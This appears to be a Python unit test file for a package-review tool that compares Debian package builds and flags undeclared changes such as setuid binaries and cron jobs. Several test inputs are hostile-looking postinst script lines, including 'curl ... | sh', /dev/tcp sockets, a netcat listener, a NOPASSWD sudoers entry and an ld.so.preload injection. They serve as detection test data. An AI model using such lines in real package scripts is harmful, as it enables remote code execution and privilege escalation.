from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
import yaml

from suture.errors import BadInputError
from suture.settings import PROJECT_ROOT
from suture.sourcing.analysis.kinds import KINDS
from suture.sourcing.analysis.notes import NAME, examine
from suture.sourcing.examination import Action, Examination, Subject, load_policy
from tests.unit.sourcing.analysis.package import FIX, Build, changelog

POLICY = PROJECT_ROOT / "include" / "policy"
ACTIONS = load_policy(POLICY).actions
UNIT = "[Service]\nExecStart=/usr/bin/portal\n"
OLD = Build(
    files={"usr/lib/systemd/system/portal.service": (UNIT, 0o644), "etc/portal.conf": ("a = 1\n", 0o644)},
    scripts={"postinst": "ldconfig"}, conffiles=("etc/portal.conf",), fields={"Depends": "libc6 (>= 2.36), adduser"},
)  # fmt: skip


def examined(tmp_path: Path, new: Build, old: Build = OLD, *advisories: tuple[str, str]) -> Examination:
    return examine(Subject(new.into(tmp_path), old.into(tmp_path), advisories))


def alarms(found: Examination) -> set[str]:
    return {c.kind for c in found.concerns if ACTIONS.of(NAME, c.kind) is not Action.NOTE}


def kinds(found: Examination) -> set[str]:
    return {concern.kind for concern in found.concerns}


def test_an_ordinary_security_rebuild_raises_nothing(tmp_path: Path) -> None:
    new = Build(**{**OLD.update().__dict__, "fields": {"Depends": "libc6 (>= 2.38), adduser"}})
    found = examined(tmp_path, new, OLD, ("DSA-1-1", "A buffer overflow (CVE-2026-1000) was found in portal."))
    assert found.concerns == ()
    assert found.facts["notes"]["cves"] == ["CVE-2026-1000"]
    assert found.facts["files"] == {"changed": 1}
    assert found.against == "1.0-1"


NEW = OLD.update()


def script(text: str) -> Build:
    return Build(**{**NEW.__dict__, "scripts": {"postinst": f"ldconfig\n{text}"}})


@pytest.mark.parametrize(
    ("new", "kind", "action"),
    [
        (NEW.plus("usr/bin/portal-helper", "x", 0o4755), "undeclared_setuid", Action.REFUSE),
        (NEW.plus("usr/bin/portal", "x", 0o2755), "undeclared_setuid", Action.REFUSE),
        (script("curl -fsS https://updates.example.test/run | sh"), "undeclared_network_in_script", Action.REFUSE),
        (script("/usr/bin/wget -q -O /tmp/x http://192.0.2.1/x"), "undeclared_network_in_script", Action.REFUSE),
        (script('c"ur"l -s "$host/x" -o /usr/bin/portal'), "undeclared_network_in_script", Action.REFUSE),
        (script("if true; then timeout 10 nc -l 99; fi"), "undeclared_network_in_script", Action.REFUSE),
        (script("exec 3<>/dev/tcp/192.0.2.1/80"), "undeclared_network_in_script", Action.REFUSE),
        (script("python3 -c 'import urllib.request as u; u.urlopen(x)'"), "undeclared_network_in_script", Action.REFUSE),
        (script("pip install portal-extras"), "undeclared_network_in_script", Action.REFUSE),
        (script("chmod u+s /usr/bin/portal"), "undeclared_setuid", Action.REFUSE),
        (script("chmod 4755 /usr/bin/portal"), "undeclared_setuid", Action.REFUSE),
        (script("setcap cap_net_raw+ep /usr/bin/portal"), "undeclared_capability", Action.REFUSE),
        (script("echo /usr/bin/portal | at now + 1 hour"), "undeclared_scheduled_task", Action.REFUSE),
        (script("echo '* * * * * root x' > /etc/cron.d/x"), "undeclared_scheduled_task", Action.REFUSE),
        (script("echo /usr/lib/x.so >> /etc/ld.so.preload"), "undeclared_loader_file", Action.REFUSE),
        (script("echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"), "undeclared_privilege_file", Action.REFUSE),
        (script("useradd --system portal2"), "undeclared_account", Action.REVIEW),
        (script("echo aGk= | base64 -d > /tmp/x"), "undeclared_obfuscation", Action.REVIEW),
        (script("rm -f /var/lib/portal/state"), "undeclared_script_change", Action.REVIEW),
        (NEW.plus("etc/cron.d/portal", "* * * * * root x\n"), "undeclared_scheduled_task", Action.REFUSE),
        (NEW.plus("usr/lib/systemd/system/x.timer", "[Timer]\n"), "undeclared_scheduled_task", Action.REFUSE),
        (NEW.plus("etc/sudoers.d/portal", "x\n", 0o440), "undeclared_privilege_file", Action.REFUSE),
        (NEW.plus("usr/share/polkit-1/rules.d/50-x.rules", "x\n"), "undeclared_privilege_file", Action.REFUSE),
        (NEW.plus("etc/pam.d/portal", "x\n"), "undeclared_privilege_file", Action.REFUSE),
        (NEW.plus("etc/ld.so.conf.d/0.conf", "/tmp\n"), "undeclared_loader_file", Action.REFUSE),
        (NEW.plus("etc/apt/sources.list.d/x.list", "deb x y z\n"), "undeclared_package_configuration", Action.REFUSE),
        (NEW.plus("usr/lib/systemd/system/x.service", UNIT), "undeclared_unit", Action.REVIEW),
        (NEW.plus("usr/lib/systemd/system/portal.service", UNIT + "User=root\n"), "undeclared_unit", Action.REVIEW),
        (NEW.plus("usr/lib/udev/rules.d/9.rules", 'RUN+="x"\n'), "undeclared_system_file", Action.REVIEW),
        (NEW.plus("etc/profile.d/portal.sh", "x\n"), "undeclared_hook", Action.REVIEW),
        (NEW.plus("etc/portal.conf", "a = 2\n"), "undeclared_conffile", Action.REVIEW),
        (NEW.plus("usr/sbin/portald", "x", 0o755), "undeclared_program", Action.REVIEW),
        (NEW.plus("usr/share/portal/new", "x"), "undeclared_file", Action.NOTE),
        (NEW.plus("usr/share/portal/new", "x", 0o666), "undeclared_mode", Action.REVIEW),
        (Build(**{**NEW.__dict__, "fields": {"Depends": "libc6, adduser, libportal-extra"}}), "undeclared_dependency", Action.REVIEW),
        (Build(**{**NEW.__dict__, "fields": {**NEW.fields, "Conflicts": "auditd"}}), "undeclared_relation", Action.REVIEW),
        (Build(**{**NEW.__dict__, "fields": {**NEW.fields, "Maintainer": "E <e@else.test>"}}), "undeclared_identity", Action.REVIEW),
        (Build(**{**NEW.__dict__, "fields": {**NEW.fields, "Section": "net"}}), "undeclared_field", Action.NOTE),
        (Build(**{**NEW.__dict__, "fields": {**NEW.fields, "Source": "gateway"}}), "other_source", Action.REVIEW),
        (Build(**{**NEW.__dict__, "control": {"triggers": "interest /etc/shadow\n"}}), "undeclared_trigger", Action.REVIEW),
        (Build(**{**NEW.__dict__, "control": {"md5sums": f"{'0' * 32}  usr/bin/portal\n"}}), "md5sums_differ", Action.REVIEW),
    ],
)  # fmt: skip
def test_what_changed_and_stands_in_no_note_is_undeclared(
    tmp_path: Path, new: Build, kind: str, action: Action
) -> None:
    found = examined(tmp_path, new)
    assert kind in kinds(found)
    assert ACTIONS.of(NAME, kind) is action
    assert ACTIONS.sternest([found]) is action
    refusal = ACTIONS.refusal([found])
    assert (refusal is not None) == (action is Action.REFUSE)
    if refusal is not None:
        assert refusal.reason == kind
        assert "portal 1.0-1+deb12u1" in str(refusal)


@pytest.mark.parametrize(
    ("change", "note"),
    [
        (lambda b: b.plus("usr/bin/helper", "x", 0o4755), "  * Install /usr/bin/helper setuid root, for raw sockets."),
        (lambda b: b.plus("etc/cron.d/portal", "x\n"), "  * Add a cron job that removes old sessions."),
        (lambda b: b.plus("etc/sudoers.d/portal", "x\n"), "  * Ship /etc/sudoers.d/portal, so that sudo knows operators."),
        (lambda b: b.plus("usr/lib/systemd/system/x.service", "x\n"), "  * Add x.service."),
        (lambda b: b.plus("etc/portal.conf", "ciphers_allowed = HIGH\n"), "  * Set ciphers_allowed to HIGH."),
        (lambda b: Build(**{**b.__dict__, "fields": {"Depends": "libc6, adduser, libextra1"}}), "  * Depend on libextra1."),
        (lambda b: Build(**{**b.__dict__, "scripts": {"postinst": "ldconfig\nrm -f /x"}}), "  * postinst: remove /x."),
        (
            lambda b: Build(**{**b.__dict__, "scripts": {"postinst": "ldconfig\ncurl http://localhost/"}}),
            "  * postinst: download the list of mirrors.",
        ),
    ],
)  # fmt: skip
def test_what_a_note_declares_is_recorded_and_no_concern(
    tmp_path: Path, change: Callable[[Build], Build], note: str
) -> None:
    found = examined(tmp_path, change(OLD.update(notes=f"{FIX}\n{note}")))
    assert found.concerns == ()
    assert found.facts["declared"]
    silent = examined(tmp_path / "silent", change(OLD.update()))
    assert silent.concerns


@pytest.mark.parametrize(
    "note",
    [
        "  * Mention helper in the manual.\n  * A program is no longer setuid.",  # two items are not one
        "  * Fix a crash in helper.",
        "  * Fix CVE-2026-2000 in helper, found in 2026.",  # a year is no mode
        "  * Harden what runs setuid.",
        "  * New upstream release 1.0.",
    ],
)
def test_naming_everything_somewhere_declares_no_setuid_file(tmp_path: Path, note: str) -> None:
    new = OLD.update(notes=f"{FIX}\n{note}").plus("usr/bin/helper", "x", 0o4755)
    assert "undeclared_setuid" in kinds(examined(tmp_path, new))


@pytest.mark.parametrize(
    "note",
    [
        "  * postinst: quote names, see https://bugs.test/1.",
        "  * Fix downloads of large files.",
        "  * Update postinst.",
    ],
)
def test_a_link_or_half_a_word_declares_no_network_call(tmp_path: Path, note: str) -> None:
    new = OLD.update(notes=f"{FIX}\n{note}")
    new = Build(**{**new.__dict__, "scripts": {"postinst": "ldconfig\ncurl -s https://x.test/y | sh"}})
    assert "undeclared_network_in_script" in kinds(examined(tmp_path, new))


def test_an_advisory_declares_as_well(tmp_path: Path) -> None:
    new = NEW.plus("etc/portal.conf", "a = 2\n")
    assert alarms(examined(tmp_path, new, OLD, ("DSA-2-1", "Note that portal.conf changes."))) == set()


def test_comments_and_the_own_version_in_a_script_are_no_change(tmp_path: Path) -> None:
    old = Build(**{**OLD.__dict__, "scripts": {"postinst": '# Added by dh/13\n[ "$2" = 1.0-1 ] && ldconfig'}})
    new = Build(**{**NEW.__dict__, "scripts": {"postinst": '# Added by dh/14\n[ "$2" = 1.0-1+deb12u1 ] && ldconfig'}})
    assert examined(tmp_path, new, old).concerns == ()


def test_a_library_that_carries_the_version_in_its_name_is_the_same_library(tmp_path: Path) -> None:
    old, new = OLD.plus("usr/lib/libportal-1.0-1.so", "x"), NEW.plus("usr/lib/libportal-1.0-1+deb12u1.so", "y")
    assert examined(tmp_path, new, old).concerns == ()


def test_asking_whether_a_program_is_there_is_no_network(tmp_path: Path) -> None:
    found = examined(tmp_path, script('if command -v curl >/dev/null; then echo "see https://x.test/" >&2; fi'))
    assert kinds(found) == {"undeclared_script_change"}


def test_a_new_version_of_the_program_comes_as_one_note(tmp_path: Path) -> None:
    old = Build(**{**OLD.__dict__, "version": "1.0-1"})
    new = old.update(notes="  * New upstream release 1.1.", version="1.1-1")
    for number in range(60):
        new = new.plus(f"usr/share/portal/{number}", "x")
    found = examined(tmp_path, new, old)
    assert kinds(found) == {"new_version_changes"}
    assert kinds(examined(tmp_path / "b", new.plus("etc/cron.d/x", "x\n"), old)) >= {"undeclared_scheduled_task"}


def test_claims_that_nothing_shows(tmp_path: Path) -> None:
    found = examined(tmp_path, NEW, OLD, ("DSA-3-1", "CVE-2026-1000 and CVE-2026-7777 are fixed."))
    assert [(c.kind, c.subject) for c in found.concerns] == [("unsupported_cve", "CVE-2026-7777")]
    assert alarms(found) == {"unsupported_cve"}

    named_before = Build(
        **{**NEW.__dict__, "notes": changelog(("1.0-1+deb12u1", FIX), ("1.0-1", "  * Fix CVE-2026-7777."))}
    )
    old = Build(**{**OLD.__dict__, "notes": changelog(("1.0-1", "  * Fix CVE-2026-7777."))})
    found = examined(tmp_path / "b", named_before, old, ("DSA-3-1", "CVE-2026-7777"))
    assert kinds(found) == {"fixed_before"}

    only_text = Build(**{**OLD.__dict__, "version": NEW.version, "notes": NEW.notes})
    assert kinds(examined(tmp_path / "c", only_text)) == {"unsupported_fix"}

    moved = OLD.update(version="3.0-1")
    assert "unsupported_version" in alarms(examined(tmp_path / "d", moved))

    path = OLD.update(notes=f"{FIX}\n  * Tighten /etc/portal.conf.")
    assert kinds(examined(tmp_path / "e", path)) == {"unsupported_path"}


def test_the_changelog_itself_is_looked_at(tmp_path: Path) -> None:
    stale = Build(**{**NEW.__dict__, "notes": OLD.notes})
    assert "changelog_stale" in alarms(examined(tmp_path, stale))
    rewritten = Build(**{**NEW.__dict__, "notes": changelog((NEW.version, FIX), ("1.0-1", "  * Said otherwise."))})
    assert kinds(examined(tmp_path / "b", rewritten)) == {"changelog_rewritten"}
    gap = Build(**{**NEW.__dict__, "notes": changelog((NEW.version, FIX), ("0.9-1", "  * Other line."))})
    assert kinds(examined(tmp_path / "c", gap)) == {"changelog_gap"}
    missing = Build(**{**NEW.__dict__, "notes": ""})
    assert alarms(examined(tmp_path / "d", missing)) == {"changelog_missing"}
    assert "not_newer" in alarms(examined(tmp_path / "e", OLD, NEW))


def test_a_changelog_in_a_sibling_is_read_there_if_it_is_of_the_same_source(tmp_path: Path) -> None:
    old = Build(name="portal-data", doc_link="portal")
    new = Build(**{**old.__dict__, "version": "1.0-1+deb12u1"}).plus("usr/sbin/portald", "x", 0o755)
    assert kinds(examined(tmp_path, new, old)) == {"changelog_elsewhere", "undeclared_program"}
    OLD.update(notes="  * Add portald.").into(tmp_path)
    assert examined(tmp_path, new, old).concerns == ()
    other = OLD.update(notes="  * Add portald.")
    (tmp_path / "b").mkdir()
    Build(**{**other.__dict__, "fields": {"Source": "gateway"}}).into(tmp_path / "b")
    assert "undeclared_program" in kinds(examined(tmp_path / "b", new, old))


def test_without_an_earlier_version_it_says_what_the_package_can_do(tmp_path: Path) -> None:
    new = script("curl -s http://x.test/").plus("usr/bin/helper", "x", 0o4755)
    found = examine(Subject(new.into(tmp_path)))
    assert kinds(found) == {"no_earlier_version"}
    assert found.concerns[0].details["setuid"] == ["usr/bin/helper"]
    assert "network" in found.concerns[0].details["scripts"]["postinst"]


def test_two_packages_are_not_compared(tmp_path: Path) -> None:
    with pytest.raises(BadInputError, match="portal"):
        examined(tmp_path, NEW, Build(name="gateway"))


def test_hostile_names_stay_plain_in_sentences(tmp_path: Path) -> None:
    found = examined(tmp_path, NEW.plus("usr/sbin/{{ 7*7 }}\u202e<b>", "x", 0o755))
    (concern,) = found.concerns
    assert concern.subject == "usr/sbin/{{ 7*7 }}\u202e<b>"
    assert "\u202e" not in concern.sentence


def test_policy_names_every_kind_and_no_other() -> None:
    named = yaml.safe_load((POLICY / "examination.yaml").read_text("utf-8"))["examiners"][NAME]["actions"]
    assert set(named) == set(KINDS)


def test_many_of_a_kind_are_counted(tmp_path: Path) -> None:
    new = NEW
    for number in range(40):
        new = new.plus(f"usr/share/portal/{number}", "x")
    found = examined(tmp_path, new)
    assert len(found.concerns) == 26
    assert found.concerns[-1].subject == "15 more"
